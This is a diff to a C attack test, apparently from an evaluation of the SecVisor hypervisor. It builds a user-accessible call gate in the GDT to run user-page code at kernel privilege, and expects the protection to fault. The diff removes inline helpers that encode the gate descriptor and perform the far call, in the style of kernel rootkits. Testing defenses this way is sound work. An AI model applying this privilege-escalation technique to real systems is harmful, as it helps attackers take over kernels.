@@ -1,35 +1,8 @@
 // Row 9. A call gate in the GDT to code in a user page; the user program calls through it.
 // Source: call gates: /dev/kmem-era rootkits, Windows's "callgate" trick.
-// Ends: natively succeeded; beneath SecVisor refused: a general-protection fault of the user program.
+// Ends: natively succeeded; beneath SecVisor refused, instruction: a general-protection fault of the user program.
 #include "common/attack.h"
 #include <string.h>
-
-// A call gate of CPL 3 to the kernel's code segment.
-static void gate(u8 *to, u64 handler)
-{
-	u64 low = (handler & 0xffff) | 0x10ull << 16 | 0xecull << 40 | (handler >> 16 & 0xffff) << 48;
-	u64 high = handler >> 32;
-
-	memcpy(to, &low, 8);
-	memcpy(to + 8, &high, 8);
-}
-
-// CALL FAR by this selector, with the kernel's GS in case that the kernel must clean up.
-static long call_far(u16 selector, u64 gs_of_kernel)
-{
-	struct {
-		u32 offset;
-		u16 selector;
-	} __attribute__((packed)) pointer = { 0, selector };
-	long result;
-	u64 gs;
-
-	__asm__ volatile("rdgsbase %1; wrgsbase %3; xor %%eax, %%eax; lcall *%2; wrgsbase %1"
-			 : "=&a"(result), "=&r"(gs)
-			 : "m"(pointer), "r"(gs_of_kernel)
-			 : "memory", "cc", "rcx", "rdx");
-	return result;
-}
 
 ATTACK("call-gate-gdt")
 {
@@ -49,7 +22,7 @@ ATTACK("call-gate-gdt")
 	tss = (low >> 16 & 0xffffff) | (low >> 56) << 24 | high << 32;
 	u64 top = stack + 15 * PAGE;
 	poke_bytes(tss + 4, &top, 8);
-	gate(entry, (u64)page);
+	call_gate(entry, (u64)page);
 	expect_fault();
 	unprotect();
 	// Where the kernel puts the LDT's descriptor; this process has none.
